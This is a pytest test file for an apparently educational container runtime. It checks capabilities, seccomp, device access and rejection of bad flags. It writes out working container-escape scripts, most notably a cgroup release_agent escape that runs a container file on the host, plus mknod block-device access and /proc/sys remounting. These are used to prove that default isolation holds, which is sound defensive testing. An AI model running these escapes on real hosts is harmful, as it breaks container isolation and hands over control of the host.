"""A default container cannot take the host; `--privileged` can (lesson 08, issue 14).

Each escape is tried twice on the real kernel: in a default container, where it must fail, and
with --privileged, where it must work, which proves the test could fail. What the runtime saves
(`inspect`) is checked too, and bad security flags are refused before anything starts.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import uuid
from pathlib import Path

import pytest

from minicontainer.security import capabilities

DOCKER_DEFAULT = "00000000a80425fb"


def mc(*args: str, timeout: float = 60) -> subprocess.CompletedProcess:
    launcher = Path(sys.executable).parent / "minicontainer"
    return subprocess.run([str(launcher), *args], capture_output=True, text=True, timeout=timeout)


def sh(script: str, *flags: str, image: str = "busybox") -> subprocess.CompletedProcess:
    return mc("run", "--rm", *flags, image, "sh", "-c", script)


@pytest.fixture
def image(paths):
    from minicontainer.image import prepare_default_image
    prepare_default_image(paths)
    return "busybox"


def status_field(out: str, key: str) -> str:
    return next(line.split()[1] for line in out.splitlines() if line.startswith(key + ":"))


# --- capabilities, no_new_privs, seccomp -----------------------------------------------------------

def test_a_default_container_has_exactly_dockers_capabilities(image):
    out = sh("cat /proc/self/status", image=image).stdout
    assert status_field(out, "CapEff") == DOCKER_DEFAULT
    assert status_field(out, "CapBnd") == DOCKER_DEFAULT
    assert status_field(out, "CapInh") == "0000000000000000"
    assert status_field(out, "CapAmb") == "0000000000000000"
    assert status_field(out, "NoNewPrivs") == "1"
    assert status_field(out, "Seccomp") == "2"


def test_privileged_keeps_every_capability_and_no_filter(image):
    out = sh("cat /proc/self/status", "--privileged", image=image).stdout
    assert int(status_field(out, "CapEff"), 16) == capabilities.mask(capabilities.all_names())
    assert status_field(out, "Seccomp") == "0" and status_field(out, "NoNewPrivs") == "0"


def test_pid_1_is_confined_like_the_workload(image):
    out = sh("cat /proc/1/status", image=image).stdout
    assert status_field(out, "CapEff") == DOCKER_DEFAULT and status_field(out, "Seccomp") == "2"


def test_cap_drop_all_leaves_nothing_and_cap_add_adds(image):
    assert status_field(sh("cat /proc/self/status", "--cap-drop", "ALL", image=image).stdout, "CapEff") == "0" * 16
    out = sh("cat /proc/self/status", "--cap-add", "net_admin", "--cap-drop", "CAP_MKNOD", image=image).stdout
    got = capabilities.decode(status_field(out, "CapEff"))
    assert "CAP_NET_ADMIN" in got and "CAP_MKNOD" not in got and len(got) == 14


def test_a_non_root_user_has_no_effective_capability(image):
    out = sh("cat /proc/self/status; id -u", "--user", "1000", image=image).stdout
    assert status_field(out, "CapEff") == "0" * 16 and out.split()[-1] == "1000"


def test_cap_drop_all_with_a_user_still_starts(image):
    result = sh("id -u", "--cap-drop", "ALL", "--user", "65534", image=image)
    assert result.returncode == 0 and result.stdout.strip() == "65534", result.stderr


@pytest.mark.parametrize("flags, expected", [((), "EPERM"), (("--privileged",), "ok")])
def test_mount_and_unshare_of_a_user_namespace_fail_with_eperm(image, flags, expected):
    script = ("mkdir -p /m; mount -t tmpfs none /m 2>/tmp/e && echo mount ok || cat /tmp/e; "
              "unshare -U true 2>/tmp/e && echo unshare ok || cat /tmp/e")
    out = sh(script, *flags, image=image).stdout
    if expected == "EPERM":
        assert "mount ok" not in out and "permission denied" in out.lower()
        assert "unshare ok" not in out and "Operation not permitted" in out
    else:
        assert "mount ok" in out and "unshare ok" in out


def test_no_new_privileges_can_be_turned_off(image):
    out = sh("cat /proc/self/status", "--security-opt", "no-new-privileges=false", image=image).stdout
    assert status_field(out, "NoNewPrivs") == "0" and status_field(out, "Seccomp") == "2"


def test_seccomp_unconfined_removes_only_the_filter(image):
    out = sh("cat /proc/self/status", "--security-opt", "seccomp=unconfined", image=image).stdout
    assert status_field(out, "Seccomp") == "0" and status_field(out, "CapEff") == DOCKER_DEFAULT


def test_a_seccomp_profile_from_a_file_is_applied(image, tmp_path):
    profile = tmp_path / "no-mkdir.json"
    profile.write_text(json.dumps({"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [
        {"names": ["mkdir", "mkdirat"], "action": "SCMP_ACT_ERRNO", "errnoRet": 13}]}))
    blocked = sh("mkdir /made && echo made", "--security-opt", f"seccomp={profile}", image=image)
    assert "made" not in blocked.stdout and "Permission denied" in blocked.stderr  # errnoRet 13 = EACCES
    assert sh("mkdir /made && echo made", image=image).stdout.strip() == "made"


def test_exec_is_confined_like_the_container(image):
    name = f"mc-sec-{uuid.uuid4().hex[:8]}"
    assert mc("run", "-d", "--name", name, image, "sleep", "30").returncode == 0
    try:
        out = mc("exec", name, "cat", "/proc/self/status").stdout
    finally:
        mc("rm", "-f", name)
    assert status_field(out, "CapEff") == DOCKER_DEFAULT and status_field(out, "Seccomp") == "2"


# --- the classic escapes ------------------------------------------------------------------------------

def cgroup_v1_hierarchies() -> list[str]:
    with open("/proc/self/cgroup") as f:
        return [line.split(":")[1] for line in f if line.split(":")[1]]


RELEASE_AGENT = """
upper=$(sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -1)
mkdir -p /cg
for h in {hierarchies}; do
  case $h in name=*) o=none,$h;; *) o=$h;; esac
  mount -t cgroup -o $o cgroup /cg 2>/dev/null || continue
  [ -e /cg/release_agent ] && break
  umount /cg
done
[ -e /cg/release_agent ] || {{ echo "no hierarchy root"; exit 3; }}
old=$(cat /cg/release_agent); case $old in */upper/payload) old=;; esac  # (another lab's, left half-way)
printf '#!/bin/sh\\ntouch {marker}\\n' > /payload && chmod +x /payload
echo "$upper/payload" > /cg/release_agent
mkdir /cg/mc-escape && echo 1 > /cg/mc-escape/notify_on_release
sh -c 'echo $$ > /cg/mc-escape/cgroup.procs'
for i in $(seq 50); do [ -e {marker} ] && break; sleep 0.1; done
rmdir /cg/mc-escape 2>/dev/null; echo "$old" > /cg/release_agent; umount /cg
echo done
"""


@pytest.mark.parametrize("privileged", [False, True], ids=["default", "privileged"])
def test_the_release_agent_escape_leaves_no_trace_on_the_host(image, tmp_path, privileged):
    """CVE-2022-0492's class: mount a v1 hierarchy's root, have the host run a file of the container."""
    hierarchies = cgroup_v1_hierarchies()
    if not hierarchies:
        pytest.skip("a cgroup v2-only host: v2 has no release_agent")
    before = {h: open(f"/sys/fs/cgroup/{h.removeprefix('name=')}/release_agent").read()
              for h in hierarchies if os.path.exists(f"/sys/fs/cgroup/{h.removeprefix('name=')}/release_agent")}
    marker = tmp_path / "escaped"  # a host path: only a process on the host can create it
    script = RELEASE_AGENT.format(hierarchies=" ".join(hierarchies), marker=marker)
    try:
        result = sh(script, *(["--privileged"] if privileged else []), image=image)
        after = {h: open(f"/sys/fs/cgroup/{h.removeprefix('name=')}/release_agent").read() for h in before}
    finally:  # the script restores them itself; a container killed half-way would not: the host does
        for h, value in before.items():
            path = f"/sys/fs/cgroup/{h.removeprefix('name=')}/release_agent"
            if open(path).read() != value:
                with open(path, "w") as f:
                    f.write(value or "\n")
    assert after == before, "a host release_agent was changed"
    if privileged:
        assert marker.exists(), f"--privileged should let the escape work (or the test proves nothing): {result}"
    else:
        assert not marker.exists(), "the host ran a file of a default container"
        assert "no hierarchy root" in result.stdout


@pytest.mark.parametrize("privileged", [False, True], ids=["default", "privileged"])
def test_a_block_device_node_made_inside_cannot_be_opened(image, privileged):
    loop = next((p for p in ("/dev/loop0", "/dev/vda", "/dev/sda", "/dev/nvme0n1") if os.path.exists(p)), None)
    if loop is None:
        pytest.fail("no block device on this host to try")
    dev = os.stat(loop).st_rdev
    script = f"mknod /disk b {os.major(dev)} {os.minor(dev)} && echo made; head -c 1 /disk >/dev/null && echo opened"
    out = sh(script, *(["--privileged"] if privileged else []), image=image)
    assert "made" in out.stdout, "CAP_MKNOD is in the default set: mknod itself works (as in Docker)"
    assert ("opened" in out.stdout) == privileged, out


def test_device_adds_one_device(image):
    out = sh("head -c 4 /dev/xzero | od -An -tx1; head -c 1 /dev/loop-nope 2>&1", "--device", "/dev/zero:/dev/xzero",
             image=image)
    assert out.stdout.split()[:4] == ["00", "00", "00", "00"], out


@pytest.mark.parametrize("privileged", [False, True], ids=["default", "privileged"])
def test_proc_sys_cannot_be_remounted_read_write(image, privileged):
    script = "mount -o remount,rw /proc/sys 2>/dev/null; echo changed > /proc/sys/kernel/hostname 2>/dev/null; hostname"
    out = sh(script, "--hostname", "box", *(["--privileged"] if privileged else []), image=image).stdout.strip()
    assert out == ("changed" if privileged else "box")


@pytest.mark.parametrize("privileged", [False, True], ids=["default", "privileged"])
def test_masked_paths_and_a_new_procfs(image, privileged):
    masked = next(p for p in ("/proc/kcore", "/proc/timer_list", "/proc/keys", "/proc/interrupts") if os.path.exists(p))
    script = (f"head -c 1 {masked} | wc -c; mkdir -p /p; mount -t proc proc /p 2>/dev/null && echo procfs; "
              "mount -t sysfs sysfs /p 2>/dev/null && echo sysfs")
    out = sh(script, *(["--privileged"] if privileged else []), image=image).stdout.split()
    if privileged:
        assert out[0] == "1" and "procfs" in out
    else:
        assert out == ["0"], f"{masked} must read as /dev/null, and no new procfs or sysfs may be mounted"


def test_inspect_shows_what_a_container_got(image):
    name = f"mc-sec-{uuid.uuid4().hex[:8]}"
    assert mc("run", "--name", name, "--cap-drop", "MKNOD", image, "true").returncode == 0
    try:
        view = json.loads(mc("inspect", name).stdout)[0]
        state = view["Minicontainer"]["Security"]
        assert view["HostConfig"]["CapDrop"] == ["MKNOD"] and view["HostConfig"]["Privileged"] is False
    finally:
        mc("rm", name)
    assert "CAP_MKNOD" not in state["capabilities"] and len(state["capabilities"]) == 13
    assert state["seccomp"] == "default" and state["no_new_privs"] is True and state["privileged"] is False
    assert "c 1:3 rwm" in state["devices"]


# --- bad input: one line, exit 125, nothing left ----------------------------------------------------------

@pytest.mark.parametrize("flags, message", [
    (("--cap-add", "CAP_TAKE_HOST"), 'unknown capability: "CAP_TAKE_HOST"'),
    (("--cap-drop", "nope"), "unknown capability"),
    (("--security-opt", "seccomp=/no/such/profile.json"), "opening seccomp profile"),
    (("--security-opt", "apparmor=x"), "invalid --security-opt"),
    (("--device", "/no/such/device"), "error gathering device information"),
])
def test_bad_security_flags_are_one_line_exit_125(image, paths, flags, message):
    result = mc("run", "--rm", *flags, image, "true")
    assert result.returncode == 125 and message in result.stderr
    assert result.stderr.startswith("minicontainer run: error: ") and result.stderr.count("\n") == 1
    assert not os.listdir(paths.run_dir / "containers") if (paths.run_dir / "containers").exists() else True


@pytest.mark.parametrize("profile, message", [
    ('{"defaultAction": "SCMP_ACT_ALLOW", "syscalls": [{"names": ["execve"], "action": "SCMP_ACT_ERRNO"}]}',
     "refuses execve"),
    ('{"defaultAction": "SCMP_ACT_DANCE"}', "unknown action"),
    ('{"defaultAction": ', "decoding seccomp profile"),
])
def test_bad_seccomp_profiles_are_refused_before_anything_starts(image, paths, tmp_path, profile, message):
    path = tmp_path / "profile.json"
    path.write_text(profile)
    result = mc("run", "--rm", "--security-opt", f"seccomp={path}", image, "true")
    assert result.returncode == 125 and message in result.stderr and result.stderr.count("\n") == 1
    containers = paths.run_dir / "containers"
    assert not containers.exists() or not os.listdir(containers)
